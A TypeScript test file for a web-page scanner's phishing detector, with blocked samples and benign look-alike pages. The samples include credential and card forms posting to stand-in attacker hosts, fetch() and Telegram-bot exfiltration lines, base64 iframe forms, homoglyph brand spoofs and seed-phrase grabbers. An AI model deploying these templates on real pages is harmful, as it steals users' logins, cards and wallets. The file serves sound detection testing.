import { expect, test } from 'bun:test'

import { readPage, scan } from '../inspection.ts'
import { findCredentialField } from './phish.ts'

const codesOf = (html: string): string[] => [
  ...new Set(scan(html).findings.map(({ code }) => code)),
]
const login = '<input name=email placeholder=Email><input type=password name=pass>'
const script = (code: string) => `<script>${code}</script>`

/** Twenty-six ways to ask for what is not theirs, each with the rule that must speak. */
const phishing: [string, string, string][] = [
  ['form to a host', 'credential_form', `<form action="https://evil.example/c">${login}</form>`],
  ['form to //host', 'credential_form', `<form action="//evil.example">${login}</form>`],
  ['form by mail', 'credential_form', `<form action="mailto:a@b.example">${login}</form>`],
  ['form to php', 'credential_form', `<form action="post.php" method=post>${login}</form>`],
  ['form to aspx', 'credential_form', `<form action="/x/login.aspx?id=1">${login}</form>`],
  [
    'button with its own action',
    'credential_form',
    `<form>${login}<button formaction="https://evil.example">Go</button></form>`,
  ],
  [
    'field outside its form',
    'credential_form',
    '<form id=f action="https://evil.example"></form><input type=password form=f>',
  ],
  [
    'card fields',
    'credential_form',
    '<form action="https://evil.example"><label>Card number</label><input><input name=cvv></form>',
  ],
  [
    'one-time code',
    'credential_form',
    '<form action="send.php"><input autocomplete="one-time-code"></form>',
  ],
  [
    'seed words to a host',
    'credential_form',
    '<form action="https://e.example"><textarea placeholder="Seed phrase"></textarea></form>',
  ],
  [
    'action set by a script',
    'credential_form',
    `<form id=f>${login}</form>${script("f.action = 'https://' + 'evil.example/take'")}`,
  ],
  [
    'sent to a chat bot',
    'credential_form',
    `${login}${script("fetch('https://api.telegram.org/bot' + t + '/sendMessage?text=' + p)")}`,
  ],
  [
    'sent by fetch',
    'credential_form',
    `<h2>Sign in</h2>${login}${script("fetch('https://evil.example/c', { method: 'POST' })")}`,
  ],
  [
    'sent by mail service',
    'credential_form',
    `${login}${script("emailjs.send('s', 't', { p: pass.value })")}`,
  ],
  [
    'form written by a script',
    'credential_form',
    script(
      'document.body.innerHTML = \'<form action="https://evil.example"><input type=password>\'',
    ),
  ],
  [
    'form written by a template',
    'credential_form',
    script(
      'app.innerHTML = `<form action="https://e.example"><p>${hi}</p><input type="password">`',
    ),
  ],
  [
    'form in a srcdoc',
    'credential_form',
    '<iframe srcdoc="<form action=https://e.example><input type=password></form>"></iframe>',
  ],
  [
    'form in a data address',
    'credential_form',
    `<iframe src="data:text/html;base64,${btoa(`<form action=//e.example>${login}`)}"></iframe>`,
  ],
  ['brand in the title', 'brand_login', `<title>PayPal: Log in</title>${login}<b>Log in</b>`],
  ['brand in a heading', 'brand_login', `<h1>Netflix</h1>${login}<button>Sign In</button>`],
  ['brand in the logo', 'brand_login', `<img alt="Microsoft">Sign in ${login}`],
  [
    'brand in the address of the logo',
    'brand_login',
    `<img src="https://cdn.example/facebook-logo.svg">${login}<button>Log In</button>`,
  ],
  ['brand in pieces', 'brand_login', `<h1>Insta<span>gram</span></h1>${login}<p>Log in`],
  ['brand in look-alikes', 'brand_login', `<h1>P\u0430yP\u0430l</h1>${login}<p>Log in`],
  ['brand with soft hyphens', 'brand_login', `<h1>Pay&shy;Pal</h1>${login}<p>Log in`],
  ['brand that is a word', 'brand_login', `<title>Chase - Sign in</title>${login}`],
  ['brand in other words', 'brand_login', `<title>Google</title>${login}<p>Iniciar sesión`],
  [
    'password field made by a script',
    'brand_login',
    `<h1>Coinbase</h1><p>Sign in</p>${script("let i = make('input'); i.type = 'password'")}`,
  ],
  [
    'brand, text field for a password',
    'brand_login',
    '<h1>Wells Fargo</h1><p>Verify your account</p><input placeholder="Online password">',
  ],
  [
    'bank asks for a card',
    'brand_login',
    '<h1>DHL</h1><p>Confirm your payment</p><input name=cardnumber><input name=cvv>',
  ],
  [
    'wallet words',
    'wallet_seed',
    '<h1>Import wallet</h1><textarea placeholder="Enter your 12-word recovery phrase"></textarea>',
  ],
  [
    'twelve fields',
    'wallet_seed',
    `<h2>Wallet recovery</h2>${'<input name="seed word">'.repeat(12)}`,
  ],
  [
    'connect a wallet',
    'wallet_seed',
    '<button>Connect wallet</button><label>Recovery phrase</label><textarea></textarea>',
  ],
  [
    'private key of a wallet',
    'wallet_seed',
    '<h1>MetaMask</h1><p>Restore</p><input type=password placeholder="Private key">',
  ],
  [
    'divs for everything',
    'wallet_seed',
    '<div>Validate your wallet</div><div>Secret phrase</div><textarea></textarea><div>Send</div>',
  ],
]

test.each(phishing)('blocks: %s', (_, rule, html) => {
  const { verdict, listable } = scan(html)
  expect(codesOf(html)).toContain(`phish.${rule}`)
  expect({ verdict, listable }).toEqual({ verdict: 'block', listable: false })
})

/** Pages that look a little like it and are honest. */
const honest: [string, string][] = [
  [
    'a password generator',
    '<h1>Password generator</h1><input id=password readonly><button>Make</button>',
  ],
  [
    'a strength meter',
    `<h1>How strong is it?</h1><input type=password placeholder="Type a password">
     ${script("fetch('https://api.pwnedpasswords.com/range/' + hash)")}`,
  ],
  [
    'an API key field',
    `<title>Google Gemini chat</title><label>API key</label><input type=password><p>Sign in</p>
     ${script("fetch('https://generativelanguage.googleapis.com/v1', { method: 'POST' })")}`,
  ],
  [
    'a token behind its field',
    '<h1>GitHub issues</h1><input type=password><label>Personal access token</label><p>Log in</p>',
  ],
  [
    'a page that teaches seed phrases',
    `<h1>How BIP39 works</h1><p>Never type your seed phrase into a website.</p>
     <p>A wallet is restored from twelve words.</p><button>Make up words</button>
     <textarea readonly>abandon ability able</textarea>
     <label>Mnemonic to check</label><textarea></textarea>`,
  ],
  [
    'a bank game',
    '<title>Bank Heist</title><h1>Bank of Pixel</h1><p>Enter the PIN</p><input maxlength=4>',
  ],
  [
    'a game with profiles',
    `<title>Apple Catcher</title><h1>Apple Catcher</h1><canvas></canvas>
     <h2>Log in</h2><form>${login}</form>`,
  ],
  [
    'a card game',
    '<h1>Card table</h1><label>Card number 1 to 52</label><input type=number><p>Log in later',
  ],
  ['a login form without a brand', `<h1>Sign in to my notes</h1><form action="#">${login}</form>`],
  ['an OAuth button', `<h1>Todo</h1><form>${login}<button>Sign in with Google</button></form>`],
  ['a newsletter form', '<form action="https://list.example/join"><input type=email></form>'],
  [
    'a Wi-Fi code maker',
    '<h1>Wi-Fi QR code</h1><label>Network</label><input><label>Password</label><input>',
  ],
  [
    'an encryption tool',
    `<h1>Encrypt a text</h1><textarea></textarea><input type=password><button>Go`,
  ],
  ['a PEM tool', '<h1>JWT signer</h1><label>Private key (PEM)</label><textarea></textarea>'],
  ['a card checker', '<h1>Luhn check</h1><input name=cardnumber placeholder="Card number">'],
  ['prose about phishing', `<h1>PayPal scams</h1><p>They say: sign in to verify your account.</p>`],
]

test.each(honest)('allows: %s', (_, html) => {
  expect(scan(html).findings.filter(({ effect }) => effect !== 'warn')).toEqual([])
})

test('reports the line of the form and of the field', () => {
  const form = `<form\n action="https://evil.example">\n${login}\n</form>`
  const html = `<title>PayPal</title>\n<p>Log in</p>\n${form}`
  const found = scan(html).findings.map(({ code, line }) => [code, line])
  expect(found).toEqual([
    ['phish.credential_form', 3],
    ['phish.brand_login', 5],
  ])
  expect(scan(html).findings[1]?.excerpt).toStartWith('<input type=password name=pass>')
})

test('a form that signs in at an API is not phishing, since the sandbox blocks it', () => {
  const page = (url: string) =>
    `<h2>Sign in</h2>${login}${script(`fetch('${url}', { method: 'POST', body: pass.value })`)}`
  for (const url of ['https://api.shop.example/login', 'https://shop.example/api/v1/session']) {
    expect(codesOf(page(url))).toEqual(['net.external'])
  }
  expect(codesOf(page('https://evil.example/c'))).toContain('phish.credential_form')
  expect(codesOf(page('https://api.telegram.org/bot1/x'))).toContain('phish.credential_form')
})

test('an attack that a page shows as text is allowed, unless it is inserted', () => {
  const attack = '`<form action="https://e.example"><p>${hi}</p><input type="password"></form>`'
  expect(codesOf(script(`code.textContent = ${attack}`))).toEqual([])
  expect(codesOf(script(`code.innerHTML = ${attack}`))).toContain('phish.credential_form')
})

test('fields for passwords, cards and one-time codes are found, others are not', () => {
  const found = (html: string) => findCredentialField(readPage(html))?.code
  for (const field of ['type=password', 'autocomplete=cc-number', 'name=otp'])
    expect(found(`<form><input ${field}></form>`)).toBe('share.credentials')
  expect(found('<input name=message>')).toBeUndefined()
})
